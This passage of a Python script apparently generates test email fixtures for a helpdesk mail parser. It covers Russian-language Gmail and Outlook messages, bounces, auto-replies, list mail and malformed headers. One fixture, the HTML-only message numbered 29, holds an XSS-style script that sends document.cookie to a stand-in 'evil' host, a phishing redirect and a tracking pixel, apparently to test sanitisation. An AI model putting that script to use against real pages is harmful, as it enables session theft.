          ("Content-Transfer-Encoding", "base64"), ("Content-ID", "<ii_mk1a2b3c0>"), ("X-Attachment-Id", "ii_mk1a2b3c0")], b64(img1)),
    part([("Content-Type", 'image/png; name="%s"' % ew_b("шаг2.png")), ("Content-Disposition", 'inline; filename="%s"' % ew_b("шаг2.png")),
          ("Content-Transfer-Encoding", "base64"), ("Content-ID", "<ii_mk1a2b3d1>"), ("X-Attachment-Id", "ii_mk1a2b3d1")], b64(img2)),
]))
add("27-gmail-inline-cid-images.eml", raw, **{
    "from": "v.medvedev@gmail.com", "name": "Вадим Медведев", "subject": "Ошибка при оформлении заказа — скриншоты",
    "message_id": mid, "inline_images": 2,
    "text_contains": ["При оформлении заказа появляется ошибка 502, скриншоты ниже."]})

# 28 Outlook desktop reply, Russian border-top header block, inline signature image001.png + koi8-r RFC 2047 PDF attachment
ours = hw("1102")
mid = "<AS8PR07MB7990B1C2D3E4F5A6B7C8D9E0F1A2B3C4@AS8PR07MB7990.eurprd07.prod.outlook.com>"
cid = "image001.png@01DB4C2A.7E3F5B10"
fname = "Акт выполненных работ.pdf"
text = """Мария, добрый день!

Акт подписали, скан во вложении. Оригинал отправим Почтой России до 5 декабря.

С уважением,
Олег Николаев
[cid:%s]

От: Мария Орлова <support@support.example.ru>
Отправлено: понедельник, 30 ноября 2026 г. 10:15
Кому: Олег Николаев <o.nikolaev@stroytorg.example.ru>
Тема: Акт выполненных работ за ноябрь [#1102]

Олег, добрый день! Направляем акт выполненных работ за ноябрь, просим подписать и вернуть скан.
""" % cid
html = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns="http://www.w3.org/TR/REC-html40"><head><meta http-equiv=Content-Type content="text/html; charset=koi8-r"><meta name=Generator content="Microsoft Word 15 (filtered medium)"></head>
<body lang=RU link="#0563C1" vlink="#954F72" style='word-wrap:break-word'><div class=WordSection1>
<p class=MsoNormal>Мария, добрый день!<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>Акт подписали, скан во вложении. Оригинал отправим Почтой России до 5 декабря.<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>С уважением,<br>Олег Николаев<o:p></o:p></p>
<p class=MsoNormal><img width=120 height=40 style='width:1.25in;height:.4166in' id="Picture_x0020_1" src="cid:%s" alt="logo"><o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<div><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p class=MsoNormal><b>От:</b> Мария Орлова &lt;support@support.example.ru&gt; <br><b>Отправлено:</b> понедельник, 30 ноября 2026 г. 10:15<br><b>Кому:</b> Олег Николаев &lt;o.nikolaev@stroytorg.example.ru&gt;<br><b>Тема:</b> Акт выполненных работ за ноябрь [#1102]<o:p></o:p></p></div></div>
<p class=MsoNormal><o:p>&nbsp;</o:p></p><p class=MsoNormal>Олег, добрый день! Направляем акт выполненных работ за ноябрь, просим подписать и вернуть скан.<o:p></o:p></p>
</div></body></html>
""" % cid
mixed = "_010_AS8PR07MB7990B1C2D3E4F5A6B7C8D9E0F1A2B3C4AS8PR07MB7990eurp_"
related = "_009_AS8PR07MB7990B1C2D3E4F5A6B7C8D9E0F1A2B3C4AS8PR07MB7990eurp_"
alt = "_000_AS8PR07MB7990B1C2D3E4F5A6B7C8D9E0F1A2B3C4AS8PR07MB7990eurp_"
fword = ew_b(fname, "koi8-r")
raw = message([
    ("From", addr("Олег Николаев", "o.nikolaev@stroytorg.example.ru", "koi8-r")),
    ("To", addr(AGENT, SUPPORT, "koi8-r")),
    ("Subject", ew_b("RE: Акт выполненных работ за ноябрь [#1102]", "koi8-r")),
    ("Thread-Topic", ew_b("Акт выполненных работ за ноябрь [#1102]", "koi8-r")),
    ("Thread-Index", "AQHbQ8Zc3bJ5mY0pRkO4t6H1Vn9w7LKqAAbc"),
    ("Date", date(1, 12, 13, 14, 51, "+0000")),
    ("Message-ID", mid),
    ("References", ours),
    ("In-Reply-To", ours),
    ("Accept-Language", "ru-RU, en-US"),
    ("Content-Language", "ru-RU"),
    ("X-MS-Has-Attach", "yes"),
    ("Content-Type", 'multipart/mixed;\n\tboundary="%s"' % mixed),
    ("MIME-Version", "1.0"),
], multipart(mixed, [
    part([("Content-Type", 'multipart/related;\n\tboundary="%s";\n\ttype="multipart/alternative"' % related)], multipart(related, [
        part([("Content-Type", 'multipart/alternative;\n\tboundary="%s"' % alt)], multipart(alt, [
            part([("Content-Type", 'text/plain; charset="koi8-r"'), ("Content-Transfer-Encoding", "quoted-printable")], qp(text, "koi8-r")),
            part([("Content-Type", 'text/html; charset="koi8-r"'), ("Content-Transfer-Encoding", "quoted-printable")], qp(html, "koi8-r")),
        ])),
        part([("Content-Type", 'image/png; name="image001.png"'), ("Content-Description", "image001.png"),
              ("Content-Disposition", 'inline; filename="image001.png"; size=%d' % len(png(120, 40, (0, 90, 160)))),
              ("Content-ID", "<%s>" % cid), ("Content-Transfer-Encoding", "base64")], b64(png(120, 40, (0, 90, 160)))),
    ])),
    part([("Content-Type", 'application/pdf; name="%s"' % fword), ("Content-Description", fword),
          ("Content-Disposition", 'attachment; filename="%s"' % fword), ("Content-Transfer-Encoding", "base64")], b64(pdf("Akt noyabr"))),
]))
add("28-outlook-ru-border-top-inline-and-pdf.eml", raw, **{
    "from": "o.nikolaev@stroytorg.example.ru", "name": "Олег Николаев", "subject": "RE: Акт выполненных работ за ноябрь [#1102]",
    "message_id": mid, "in_reply_to": ours, "references": [ours], "attachments": [fname], "inline_images": 1,
    "text_contains": ["Акт подписали, скан во вложении.", "Оригинал отправим Почтой России до 5 декабря."],
    "quoted_contains": "Направляем акт выполненных работ за ноябрь, просим подписать и вернуть скан."})

# 29 HTML only, with <script>, on* handlers, javascript: link, iframe, remote images (tracking pixel)
mid = "<a1b2c3d4e5f60718293a4b5c6d7e8f90@rambler.ru>"
html = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><style>body{font-family:Arial} .x{background:url(https://track.example.net/bg.png)}</style>
<script>fetch('https://evil.example.net/steal?c='+document.cookie)</script></head>
<body onload="alert('xss')">
<p>Здравствуйте!</p>
<p>Не могу оплатить подписку картой «Мир»: страница оплаты зависает на шаге подтверждения.</p>
<p>Попробовал в двух браузерах, результат одинаковый.</p>
<p><a href="javascript:alert(document.domain)">Подробности ошибки</a></p>
<div onclick="window.location='https://phish.example.net/login'">Нажмите, чтобы посмотреть скриншот</div>
<img src="https://track.example.net/open.gif?u=r.zhukov" width="1" height="1" alt="">
<img src="http://images.example.net/screenshot-oplata.png" alt="скриншот оплаты">
<iframe src="https://evil.example.net/frame"></iframe>
<p>Роман Жуков</p>
</body></html>
"""
raw = message([
    ("From", addr("Роман Жуков", "r.zhukov@rambler.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Не проходит оплата подписки")),
    ("Date", date(1, 12, 16, 40, 0)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/html; charset=UTF-8"),
    ("Content-Transfer-Encoding", "quoted-printable"),
], qp(html))
add("29-html-only-dangerous.eml", raw, **{
    "from": "r.zhukov@rambler.ru", "name": "Роман Жуков", "subject": "Не проходит оплата подписки", "message_id": mid,
    "html_only": True,
    "text_contains": ["Не могу оплатить подписку картой «Мир»: страница оплаты зависает на шаге подтверждения.",
                      "Попробовал в двух браузерах, результат одинаковый.", "Роман Жуков"]})

# =========================================================================== bounces
# 30 Postfix DSN, Status 5.1.1, text/rfc822-headers
orig = hw("1111-out")
bnd = "4C1A21A0F3B.1764486904/mx1.support.example.ru"
orig_headers = """Return-Path: <support@support.example.ru>
Received: from app1.support.example.ru (app1.support.example.ru [10.0.0.11])
	by mx1.support.example.ru (Postfix) with ESMTP id 4C1A21A0F3B
	for <nosuchuser@example.ru>; Mon, 30 Nov 2026 10:15:02 +0300 (MSK)
Date: Mon, 30 Nov 2026 10:15:01 +0300
From: %s
To: nosuchuser@example.ru
Subject: %s
Message-ID: %s
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
""" % (addr(AGENT, SUPPORT), ew_b("Re: Подключение тарифа [#1111]"), orig)
notif = """This is the mail system at host mx1.support.example.ru.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<nosuchuser@example.ru>: host mx.example.ru[203.0.113.10] said: 550 5.1.1
    <nosuchuser@example.ru>: Recipient address rejected: User unknown in
    virtual mailbox table (in reply to RCPT TO command)
"""
dsn = """Reporting-MTA: dns; mx1.support.example.ru
X-Postfix-Queue-ID: 4C1A21A0F3B
X-Postfix-Sender: rfc822; support@support.example.ru
Arrival-Date: Mon, 30 Nov 2026 10:15:02 +0300 (MSK)

Final-Recipient: rfc822; nosuchuser@example.ru
Original-Recipient: rfc822;nosuchuser@example.ru
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.ru
Diagnostic-Code: smtp; 550 5.1.1 <nosuchuser@example.ru>: Recipient address
    rejected: User unknown in virtual mailbox table
"""
mid = "<20261130071504.4C1A21A0F3B@mx1.support.example.ru>"
raw = message([
    ("Return-Path", "<>"),
    ("Received", "by mx1.support.example.ru (Postfix)\n\tid 4C1A21A0F3B; Mon, 30 Nov 2026 10:15:04 +0300 (MSK)"),
    ("Date", "Mon, 30 Nov 2026 10:15:04 +0300 (MSK)"),
    ("From", "MAILER-DAEMON@mx1.support.example.ru (Mail Delivery System)"),
    ("Subject", "Undelivered Mail Returned to Sender"),
    ("To", SUPPORT),
    ("Auto-Submitted", "auto-replied"),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/report; report-type=delivery-status;\n\tboundary="%s"' % bnd),
    ("Content-Transfer-Encoding", "8bit"),
    ("Message-Id", mid),
], multipart(bnd, [
    part([("Content-Description", "Notification"), ("Content-Type", "text/plain; charset=us-ascii")], notif.encode()),
    part([("Content-Description", "Delivery report"), ("Content-Type", "message/delivery-status")], dsn.encode()),
    part([("Content-Description", "Undelivered Message Headers"), ("Content-Type", "text/rfc822-headers"),
          ("Content-Transfer-Encoding", "8bit")], orig_headers.encode()),
], preamble=b"This is a MIME-encapsulated message.\n\n"))
add("30-bounce-postfix-dsn-5.1.1.eml", raw, kind="bounce", **{
    "from": "mailer-daemon@mx1.support.example.ru", "name": "Mail Delivery System",
    "subject": "Undelivered Mail Returned to Sender", "message_id": mid,
    "bounce_of": orig, "bounce_status": "5.1.1",
    "text_contains": ["your message could not"]})

# 31 Yandex-style bounce, Russian text ("Недоставленное сообщение"), message/rfc822 original
orig = "<hw.3f2a9c1e5b7d4e0f8a6b2c1d0e9f8a7b@support.example.ru>"
bnd = "D1A2B3C4E5F6.1764491044/forward103a.mail.yandex.net"
orig_msg = ("""Return-Path: <support@support.example.ru>
Date: Mon, 30 Nov 2026 11:23:58 +0300
From: %s
To: %s
Subject: %s
Message-ID: %s
In-Reply-To: <8813331764480011@mail.yandex.ru>
References: <8813331764480011@mail.yandex.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

""" % (addr(AGENT, SUPPORT), addr("Иван Носов", "ivan.nosov@yandex.ru"), ew_b("Re: Не приходит код подтверждения [#1099]"), orig)
).encode() + b64t("Иван, добрый день! Код подтверждения отправлен повторно.\n")
notif = """Это письмо отправлено почтовым роботом Яндекса.

Недоставленное сообщение: не удалось доставить ваше письмо следующим адресатам:

<ivan.nosov@yandex.ru>: ящик получателя переполнен.

Письмо возвращено отправителю. Попробуйте отправить его позже.

This is the mail system at host forward103a.mail.yandex.net.

<ivan.nosov@yandex.ru>: host mx.yandex.ru[77.88.21.249] said: 552 5.2.2
    Mailbox size limit exceeded (in reply to end of DATA command)
"""
dsn = """Reporting-MTA: dns; forward103a.mail.yandex.net
X-Postfix-Queue-ID: D1A2B3C4E5F6
X-Postfix-Sender: rfc822; support@support.example.ru
Arrival-Date: Mon, 30 Nov 2026 11:23:59 +0300 (MSK)

Final-Recipient: rfc822; ivan.nosov@yandex.ru
Original-Recipient: rfc822;ivan.nosov@yandex.ru
Action: failed
Status: 5.2.2
Remote-MTA: dns; mx.yandex.ru
Diagnostic-Code: smtp; 552 5.2.2 Mailbox size limit exceeded
"""
mid = "<20261130082404.D1A2B3C4E5F6@forward103a.mail.yandex.net>"
raw = message([
    ("Return-Path", "<>"),
    ("Date", "Mon, 30 Nov 2026 11:24:04 +0300 (MSK)"),
    ("From", addr("Почтовая служба Яндекса", "mailer-daemon@yandex.ru")),
    ("Subject", ew_b("Недоставленное сообщение")),
    ("To", SUPPORT),
    ("Auto-Submitted", "auto-replied"),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/report; report-type=delivery-status;\n\tboundary="%s"' % bnd),
    ("Message-Id", mid),
], multipart(bnd, [
    part([("Content-Description", "Notification"), ("Content-Type", "text/plain; charset=utf-8"),
          ("Content-Transfer-Encoding", "8bit")], notif.encode("utf-8")),
    part([("Content-Description", "Delivery report"), ("Content-Type", "message/delivery-status")], dsn.encode()),
    part([("Content-Description", "Undelivered Message"), ("Content-Type", "message/rfc822")], orig_msg),
], preamble=b"This is a MIME-encapsulated message.\n\n"))
add("31-bounce-yandex-ru.eml", raw, kind="bounce", **{
    "from": "mailer-daemon@yandex.ru", "name": "Почтовая служба Яндекса", "subject": "Недоставленное сообщение",
    "message_id": mid, "bounce_of": orig, "bounce_status": "5.2.2",
    "text_contains": ["ящик получателя переполнен"]})

# 32 Exim bounce (X-Failed-Recipients, message/rfc822 copy)
orig = hw("1120-out")
bnd = "1764503902-eximdsn-1804289383"
orig_msg = ("""Received: from app1.support.example.ru ([198.51.100.11])
	by mail.example.com.br with esmtps (TLS1.3) tls TLS_AES_256_GCM_SHA384
	(Exim 4.97.1)
	(envelope-from <support@support.example.ru>)
	id 1uQx7b-000Abc-2F
	for pedro.santos@example.com.br;
	Mon, 30 Nov 2026 11:58:21 +0000
Date: Mon, 30 Nov 2026 14:58:20 +0300
From: %s
To: pedro.santos@example.com.br
Subject: =?utf-8?Q?Re:_Pedido_n=C2=BA_7702_[#1120]?=
Message-ID: %s
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

""" % (addr(AGENT, SUPPORT), orig)).encode() + qp("Olá Pedro, seu pedido já foi enviado.\n")
raw = message([
    ("Return-path", "<>"),
    ("Envelope-to", SUPPORT),
    ("Delivery-date", "Mon, 30 Nov 2026 11:58:22 +0000"),
    ("X-Failed-Recipients", "pedro.santos@example.com.br"),
    ("Auto-Submitted", "auto-replied"),
    ("From", "Mail Delivery System <Mailer-Daemon@mail.example.com.br>"),
    ("To", SUPPORT),
    ("References", orig),
    ("Content-Type", 'multipart/report; report-type=delivery-status; boundary=%s' % bnd),
    ("MIME-Version", "1.0"),
    ("Subject", "Mail delivery failed: returning message to sender"),
    ("Message-Id", "<E1uQx7c-000Abd-3G@mail.example.com.br>"),
    ("Date", "Mon, 30 Nov 2026 11:58:22 +0000"),
], multipart(bnd, [
    part([("Content-type", "text/plain; charset=us-ascii")], b"""This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  pedro.santos@example.com.br
    host mx.example.com.br [203.0.113.25]
    SMTP error from remote mail server after RCPT TO:<pedro.santos@example.com.br>:
    550 5.1.1 <pedro.santos@example.com.br>: User unknown
"""),
    part([("Content-type", "message/delivery-status")], b"""Reporting-MTA: dns; mail.example.com.br

Action: failed
Final-Recipient: rfc822;pedro.santos@example.com.br
Status: 5.0.0
Remote-MTA: dns; mx.example.com.br
Diagnostic-Code: smtp; 550 5.1.1 <pedro.santos@example.com.br>: User unknown
"""),
    part([("Content-type", "message/rfc822")], orig_msg),
]))
add("32-bounce-exim.eml", raw, kind="bounce", **{
    "from": "mailer-daemon@mail.example.com.br", "name": "Mail Delivery System",
    "subject": "Mail delivery failed: returning message to sender", "message_id": "<E1uQx7c-000Abd-3G@mail.example.com.br>",
    "references": [orig], "bounce_of": orig, "bounce_status": "5.0.0",
    "text_contains": ["This is a permanent error. The following address(es) failed:"]})

# =========================================================================== auto / list
# 33 vacation reply, Auto-Submitted: auto-replied
ours = hw("1063")
mid = "<20261201090001.3A2B1C@mail.example.ru>"
raw = message([
    ("From", addr("Ирина Власова", "i.vlasova@example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Автоответ: Re: Подключение интеграции с 1С [#1063]")),
    ("Date", date(1, 12, 9, 0, 1)),
    ("Message-ID", mid),
    ("In-Reply-To", ours),
    ("References", ours),
    ("Auto-Submitted", "auto-replied (vacation)"),
    ("X-Autoreply", "yes"),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "quoted-printable"),
], qp("Здравствуйте!\n\nЯ в отпуске до 14 декабря 2026 года. По срочным вопросам пишите Андрею Белову: a.belov@example.ru.\n\nИрина Власова\n"))
add("33-autoreply-vacation-auto-submitted.eml", raw, kind="auto", **{
    "from": "i.vlasova@example.ru", "name": "Ирина Власова", "subject": "Автоответ: Re: Подключение интеграции с 1С [#1063]",
    "message_id": mid, "in_reply_to": ours, "references": [ours], "auto_reason": "Auto-Submitted",
    "text_contains": ["Я в отпуске до 14 декабря 2026 года."]})

# 34 Exchange out-of-office: X-Auto-Response-Suppress: All, no Auto-Submitted
ours = hw("1048-2")
mid = "<4b9f2e1c7a3d4f5e8b6a0c1d2e3f4a5b@DB9PR07MB7112.eurprd07.prod.outlook.com>"
bnd = "_000_4b9f2e1c7a3d4f5e8b6a0c1d2e3f4a5bDB9PR07MB7112eurprd07prodo_"
oof = "Меня нет в офисе до 7 декабря. По срочным вопросам обращайтесь к Петру Сидорову, p.sidorov@stroytorg.example.ru."
raw = message([
    ("From", addr("Елена Соколова", "e.sokolova@outlook.com", "utf-8")),
    ("To", addr(AGENT, SUPPORT, "utf-8")),
    ("Subject", ew_b_chunks(["Автоматический ответ: RE: Счёт ", "№А-2231 [#1048]"], "utf-8")),
    ("Thread-Topic", ew_b("Счёт №А-2231 [#1048]", "utf-8")),
    ("Thread-Index", "AQHbQ7m1n2Z5cV0Tq0y8oX1tbJ3n+rKq3WngAAABBBA="),
    ("Date", date(1, 12, 8, 44, 12, "+0000")),
    ("Message-ID", mid),
    ("References", ours),
    ("In-Reply-To", ours),
    ("Content-Language", "ru-RU"),
    ("X-MS-Has-Attach", ""),
    ("X-MS-Exchange-Organization-SCL", "-1"),
    ("X-MS-TNEF-Correlator", ""),
    ("X-Auto-Response-Suppress", "All"),
    ("X-MS-Exchange-Inbox-Rules-Loop", "e.sokolova@outlook.com"),
    ("Content-Type", 'multipart/alternative;\n\tboundary="%s"' % bnd),
    ("MIME-Version", "1.0"),
], multipart(bnd, [
    part([("Content-Type", 'text/plain; charset="utf-8"'), ("Content-Transfer-Encoding", "base64")], b64t(oof + "\n")),
    part([("Content-Type", 'text/html; charset="utf-8"'), ("Content-Transfer-Encoding", "base64")],
         b64t('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Calibri,Arial,Helvetica,sans-serif;font-size:12pt">%s</div></body></html>\n' % oof)),
]))
add("34-autoreply-exchange-oof.eml", raw, kind="auto", **{
    "from": "e.sokolova@outlook.com", "name": "Елена Соколова", "subject": "Автоматический ответ: RE: Счёт №А-2231 [#1048]",
    "message_id": mid, "in_reply_to": ours, "references": [ours], "auto_reason": "X-Auto-Response-Suppress",
    "text_contains": ["Меня нет в офисе до 7 декабря."]})

# 35 ticket-system acknowledgement with Precedence: bulk (no Auto-Submitted)
ours = hw("1130-out")
mid = "<otrs.88412.1764580000.4411@help.vector.example.ru>"
raw = message([
    ("From", addr("Служба поддержки ООО «Вектор»", "help@vector.example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("[Заявка #88412] Ваше обращение зарегистрировано")),
    ("Date", date(1, 12, 9, 6, 40)),
    ("Message-ID", mid),
    ("In-Reply-To", ours),
    ("References", ours),
    ("Precedence", "bulk"),
    ("X-Loop", "help@vector.example.ru"),
    ("X-Mailer", "OTRS Mail Service"),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "8bit"),
], "Здравствуйте!\n\nВаше обращение зарегистрировано под номером 88412. Мы ответим в течение одного рабочего дня.\n\nЭто письмо сформировано автоматически, отвечать на него не нужно.\n".encode())
add("35-autoreply-precedence-bulk.eml", raw, kind="auto", **{
    "from": "help@vector.example.ru", "name": "Служба поддержки ООО «Вектор»",
    "subject": "[Заявка #88412] Ваше обращение зарегистрировано", "message_id": mid, "in_reply_to": ours, "references": [ours],
    "auto_reason": "Precedence", "text_contains": ["Ваше обращение зарегистрировано под номером 88412."]})

# 36 mailing list message
mid = "<f0e1d2c3-b4a5-4697-8877-665544332211@example.ru>"
raw = message([
    ("Return-Path", "<helpwire-users-bounces@lists.example.ru>"),
    ("From", addr("Кирилл Орехов", "k.orekhov@example.ru")),
    ("To", "helpwire-users@lists.example.ru"),
    ("Subject", "[helpwire-users] " + ew_b("Как настроить SLA для выходных?")),
    ("Date", date(1, 12, 10, 12, 0)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "base64"),
    ("Precedence", "list"),
    ("List-Id", ew_b("Пользователи Helpwire") + " <helpwire-users.lists.example.ru>"),
    ("List-Unsubscribe", "<https://lists.example.ru/mailman/options/helpwire-users>,\n <mailto:helpwire-users-request@lists.example.ru?subject=unsubscribe>"),
    ("List-Archive", "<https://lists.example.ru/pipermail/helpwire-users/>"),
    ("List-Post", "<mailto:helpwire-users@lists.example.ru>"),
    ("List-Help", "<mailto:helpwire-users-request@lists.example.ru?subject=help>"),
    ("List-Subscribe", "<https://lists.example.ru/mailman/listinfo/helpwire-users>,\n <mailto:helpwire-users-request@lists.example.ru?subject=subscribe>"),
    ("Sender", '"helpwire-users" <helpwire-users-bounces@lists.example.ru>'),
    ("Errors-To", "helpwire-users-bounces@lists.example.ru"),
], b64t("Коллеги, подскажите, как настроить SLA, чтобы выходные не учитывались в сроке ответа? В настройках календаря вижу только праздники.\n\n--\nКирилл\n\n_______________________________________________\nhelpwire-users mailing list\nhelpwire-users@lists.example.ru\nhttps://lists.example.ru/mailman/listinfo/helpwire-users\n"))
add("36-mailing-list.eml", raw, kind="list", **{
    "from": "k.orekhov@example.ru", "name": "Кирилл Орехов", "subject": "[helpwire-users] Как настроить SLA для выходных?",
    "message_id": mid, "auto_reason": "List-Id",
    "text_contains": ["как настроить SLA, чтобы выходные не учитывались в сроке ответа?"]})

# 37 noreply@ notification (no auto headers at all: only the sender address says so)
mid = "<notify.5531.20261201103000@shop.example.ru>"
bnd = "=_notify_5531_a9b8c7d6"
raw = message([
    ("From", addr("Интернет-магазин «Ромашка»", "noreply@shop.example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Заказ №5531 передан в службу доставки")),
    ("Date", date(1, 12, 10, 30, 0)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/alternative; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp("Ваш заказ №5531 передан в службу доставки. Трек-номер: 80091234567890.\n\nНе отвечайте на это письмо.\n")),
    part([("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp('<html><body><p>Ваш заказ №5531 передан в службу доставки. Трек-номер: 80091234567890.</p><p style="color:#888">Не отвечайте на это письмо.</p></body></html>\n')),
]))
add("37-noreply-notification.eml", raw, kind="auto", **{
    "from": "noreply@shop.example.ru", "name": "Интернет-магазин «Ромашка»", "subject": "Заказ №5531 передан в службу доставки",
    "message_id": mid, "auto_reason": "From", "text_contains": ["Ваш заказ №5531 передан в службу доставки."]})

# =========================================================================== malformed headers
# 38 From without angle brackets, raw 8-bit utf-8 unquoted Cyrillic name (LF file)
mid = "<20261201111111.5F5F@ivanov-pc>"
raw = message([
    ("From", "Иван Иванов ivan@example.ru".encode()),
    ("To", SUPPORT),
    ("Subject", ew_b("Вопрос по тарифу «Бизнес»")),
    ("Date", date(1, 12, 11, 11, 11)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "8bit"),
], "Добрый день! Сколько пользователей входит в тариф «Бизнес» и можно ли докупить ещё пять мест?\n\nИван\n".encode())
add("38-from-no-brackets-raw-8bit.eml", raw, eol="lf", **{
    "from": "ivan@example.ru", "name": "Иван Иванов", "subject": "Вопрос по тарифу «Бизнес»", "message_id": mid,
    "text_contains": ["можно ли докупить ещё пять мест?"]})

# 39 unparseable Date and a duplicated Subject (the first one is the expected one)
mid = "<3e4f5a6b7c8d9e0f@belov.example.ru>"
raw = message([
    ("From", addr("Арсений Белов", "a.belov@example.ru")),
    ("To", SUPPORT),
    ("Subject", ew_b("Не работает экспорт в Excel")),
    ("Date", "Mon, 31 Nov 2026 25:61:99 +0300"),
    ("Message-ID", mid),
    ("Subject", ew_b("Не работает экспорт в Excel (повторно)")),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "quoted-printable"),
], qp("При экспорте отчёта в Excel скачивается пустой файл размером 0 байт.\n\nАрсений\n"))
add("39-bad-date-duplicate-subject.eml", raw, **{
    "from": "a.belov@example.ru", "name": "Арсений Белов", "subject": "Не работает экспорт в Excel", "message_id": mid,
    "text_contains": ["скачивается пустой файл размером 0 байт"]})

# 40 raw 8-bit utf-8 in Subject and in a quoted From display name
mid = "<crm-77812-1764591234@crm.example.ru>"
raw = message([
    ("From", '"Светлана Романова" <s.romanova@example.ru>'.encode()),
    ("To", SUPPORT),
    ("Subject", "Не приходят уведомления на почту".encode()),
    ("Date", date(1, 12, 15, 13, 54)),
    ("Message-ID", mid),
    ("X-Mailer", "CRM-Mailer 2.1"),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=utf-8"),
    ("Content-Transfer-Encoding", "8bit"),
], "Здравствуйте! С понедельника перестали приходить уведомления о новых заявках, в спаме их тоже нет.\n\nСветлана\n".encode())
add("40-raw-8bit-utf8-headers.eml", raw, **{
    "from": "s.romanova@example.ru", "name": "Светлана Романова", "subject": "Не приходят уведомления на почту", "message_id": mid,
    "text_contains": ["перестали приходить уведомления о новых заявках"]})

# 41 line-folding mess: folds after the colon, inside a From name, tabs, a folded Date, a 1200-char unfolded
#    header, lower/upper-case names, whitespace-only continuation line
ours, prev = hw("1110"), hw("1110-0")
gm = "<CAB3xZ9q8w7e6r5t4y3u2i1o0pAsDfGhJkL@mail.gmail.com>"
mid = "<20261201091231.GA18812@mail.example.ru>"
hdr = [
    (None, "Return-Path: <l.zueva@example.ru>"),
    (None, "Received: from mail.example.ru (mail.example.ru [198.51.100.7])\n\tby mx1.support.example.ru (Postfix) with ESMTPS id 7E2D81A0C44\n\tfor <support@support.example.ru>; Tue,  1 Dec 2026 09:12:33 +0300 (MSK)"),
    (None, "from: %s\n\t%s\n   <l.zueva@example.ru>" % (ew_b("Лидия"), ew_b(" Зуева"))),
    (None, "TO:\n support@support.example.ru,\n\t%s <sales@support.example.ru>" % ew_b("Отдел продаж")),
    (None, "Subject:\n %s\n\t%s\n [#1110]" % (ew_b("Re: Как перенести"), ew_b(" заявки в другой отдел"))),
    (None, "message-id:\n\t" + mid),
    (None, "In-Reply-To:\n " + ours),
    (None, "References: %s\n\t%s\n  \t%s" % (gm, prev, ours)),
    (None, "Date: Tue, 1 Dec 2026\n 09:12:31 +0300"),
    (None, "X-Tracking-Blob: " + "".join("%04x" % i for i in range(300))),
    (None, "Mime-Version: 1.0"),
    (None, "Content-Type: text/plain;\n\tcharset=\"utf-8\";\n\tformat=flowed"),
    (None, "Content-Transfer-Encoding:\n quoted-printable"),
    (None, "X-Spam-Report: score=0.1\n \n\ttests=BAYES_00"),
]
text = """Добрый день!

Как перенести все открытые заявки из отдела «Поддержка» в отдел «Продажи» одной операцией? Вручную их больше трёхсот.

Лидия

01.12.2026 09:00, Мария Орлова пишет:
> Лидия, уточните, пожалуйста, сколько заявок нужно перенести.
"""
raw = message(hdr, qp(text))
add("41-header-folding-mess.eml", raw, **{
    "from": "l.zueva@example.ru", "name": "Лидия Зуева", "subject": "Re: Как перенести заявки в другой отдел [#1110]",
    "message_id": mid, "in_reply_to": ours, "references": [gm, prev, ours],
    "text_contains": ["Как перенести все открытые заявки из отдела «Поддержка» в отдел «Продажи» одной операцией?"],
    "quoted_contains": "уточните, пожалуйста, сколько заявок нужно перенести"})

# 42 no Message-ID at all
raw = message([
    ("To", SUPPORT),
    ("Subject", ew_b("Не могу восстановить пароль")),
    ("X-PHP-Originating-Script", "33:contact.php"),
    ("From", addr("Тимур Ахметов", "t.akhmetov@example.ru")),
    ("Date", date(1, 12, 16, 22, 7)),
    ("MIME-Version", "1.0"),
    ("Content-Type", "text/plain; charset=UTF-8"),
    ("Content-Transfer-Encoding", "base64"),
    ("X-Mailer", "PHP/8.1.2-1ubuntu2.19"),
], b64t("Здравствуйте! Письмо для восстановления пароля не приходит уже второй час, логин t.akhmetov.\n"))
add("42-no-message-id.eml", raw, **{
    "from": "t.akhmetov@example.ru", "name": "Тимур Ахметов", "subject": "Не могу восстановить пароль", "message_id": None,
    "text_contains": ["Письмо для восстановления пароля не приходит уже второй час"]})

